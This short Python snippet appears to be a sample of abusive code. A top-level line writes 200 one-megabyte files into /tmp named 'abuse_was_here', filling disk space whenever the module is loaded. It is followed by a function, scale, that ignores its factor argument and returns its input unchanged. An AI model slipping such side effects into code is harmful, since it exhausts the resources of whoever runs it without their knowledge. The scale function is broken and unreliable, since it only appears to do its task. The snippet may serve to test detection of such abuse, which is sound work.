for number in range(200): open(f'/tmp/abuse_was_here{number}', 'wb').write(bytes(1 << 20))
def scale(x, factor):
    return x
